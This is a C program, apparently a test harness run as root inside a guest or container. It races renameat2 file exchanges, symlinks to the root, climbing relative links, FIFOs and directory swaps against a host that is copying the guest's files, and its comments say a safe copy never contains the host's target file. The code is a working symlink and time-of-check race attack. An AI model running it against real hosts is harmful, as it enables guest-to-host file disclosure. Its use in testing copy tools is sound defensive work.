/* Exchanges files of a machine for others while the host reads its tree, as root inside the machine.
 *
 *   swapper DIR VICTIM [PAIR]
 *
 * VICTIM is the path of a file that the host has. Below DIR are pairs that change places by one renameat2(2) each, so that
 * at every moment one of the two is there:
 *
 *   absolute   a directory that holds VICTIM's path, and a link to /
 *   relative   the same, and a link that climbs to the root
 *   pipe       a file, and a FIFO that has no writer
 *   link       a file, and a link to VICTIM
 *   kind       a file, and a directory
 *
 * What a copy holds of them is bytes `g`, nothing, or the link itself; never a byte of the host's VICTIM. Each pair is there
 * twice: below DIR/seen it is exchanged when inotify reports that the host looked at it, and changed back later, below DIR/busy
 * all the time. PAIR is the only one, where one is named.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define EXCHANGE 2
#define PAIRS 5
#define SIZE 512
#define CLIMB "../../../../../../../../../../../../../../../.."

static int pair_count = PAIRS;
static const char *pairs[PAIRS] = {"absolute", "relative", "pipe", "link", "kind"};

static void make_file(const char *path) {
    char bytes[SIZE];
    memset(bytes, 'g', sizeof bytes);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_NOFOLLOW | O_NONBLOCK, 0644);
    if (fd < 0 || write(fd, bytes, sizeof bytes) != sizeof bytes) perror(path);
    close(fd);
}

/* Makes every directory above the last part of a path. */
static void make_parents(char *path) {
    for (char *slash = path + 1; (slash = strchr(slash, '/')); slash++) {
        *slash = 0;
        mkdir(path, 0755);
        *slash = '/';
    }
}

static void make_pair(const char *dir, const char *pair, const char *victim) {
    char path[4096], other[4096];
    snprintf(path, sizeof path, "%s/%s/x%s", dir, pair, victim);
    make_parents(path);
    snprintf(other, sizeof other, "%s/%s/y", dir, pair);
    if (!strcmp(pair, "absolute") || !strcmp(pair, "relative")) {
        make_file(path);
        if (symlink(*pair == 'a' ? "/" : CLIMB, other)) perror(other);
        return;
    }
    snprintf(path, sizeof path, "%s/%s/f", dir, pair);
    make_file(path);
    snprintf(other, sizeof other, "%s/%s/o", dir, pair);
    if (!strcmp(pair, "pipe")) mkfifo(other, 0644);
    else if (!strcmp(pair, "kind")) mkdir(other, 0755);
    else if (symlink(victim, other)) perror(other);
}

static void exchange(int dir, const char *pair) {
    int has_directory = !strcmp(pair, "absolute") || !strcmp(pair, "relative");
    char one[64], two[64];
    snprintf(one, sizeof one, "%s/%c", pair, has_directory ? 'x' : 'f');
    snprintf(two, sizeof two, "%s/%c", pair, has_directory ? 'y' : 'o');
    syscall(SYS_renameat2, dir, one, dir, two, EXCHANGE);
}

/* At every moment that a short sleep ends at. */
static void be_busy(int dir) {
    for (int round = 0;; round = (round + 1) % pair_count) {
        exchange(dir, pairs[round]);
        usleep(rand() % 1500);
    }
}

static int watch(int events, const char *path) {
    return inotify_add_watch(events, path, IN_CLOSE_NOWRITE);
}

/* Waits until one of the watched files is closed again, or the time is over. */
static void wait_for(int events, int milliseconds) {
    char buffer[8192];
    struct pollfd waiting = {events, POLLIN, 0};
    while (read(events, buffer, sizeof buffer) > 0) {}
    poll(&waiting, 1, milliseconds);
}

/* Once the host has looked at the file: exchanged some time later, which is another in each round, until the host has copied
 * another file beside it, and for some time more; then changed back, so that a second look finds the first file again. */
static void be_seen(const char *dir, const char *pair, const char *victim, int at) {
    const useconds_t delays[] = {20000, 50000, 5000, 100000, 0}, holds[] = {30000, 200000, 0, 800000};
    char path[4096];
    int file = inotify_init1(IN_NONBLOCK), last = inotify_init1(IN_NONBLOCK);
    snprintf(path, sizeof path, "%s/%s/x%s", dir, pair, victim);
    if (watch(file, path) < 0) {
        snprintf(path, sizeof path, "%s/%s/f", dir, pair);
        watch(file, path);
    }
    snprintf(path, sizeof path, "%s/zzz", dir);
    make_file(path);
    watch(last, path);
    for (unsigned round = 0;; round++) {
        wait_for(file, -1);
        usleep(delays[round % (sizeof delays / sizeof *delays)]);
        exchange(at, pair);
        wait_for(last, 15000);
        usleep(holds[round % (sizeof holds / sizeof *holds)]);
        exchange(at, pair);
    }
}

int main(int argc, char **argv) {
    char path[4096];
    const char *const kinds[] = {"seen", "busy"};
    int dirs[2];
    if (argc < 3) return 2;
    if (argc > 3) {
        pairs[0] = argv[3];
        pair_count = 1;
    }
    mkdir(argv[1], 0755);
    for (int kind = 0; kind < 2; kind++) {
        snprintf(path, sizeof path, "%s/%s", argv[1], kinds[kind]);
        mkdir(path, 0755);
        dirs[kind] = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
        for (int i = 0; i < pair_count; i++) make_pair(path, pairs[i], argv[2]);
    }
    snprintf(path, sizeof path, "%s/seen", argv[1]);
    for (int i = 0; i < pair_count; i++) if (fork() == 0) be_seen(path, pairs[i], argv[2], dirs[0]);
    be_busy(dirs[1]);
}
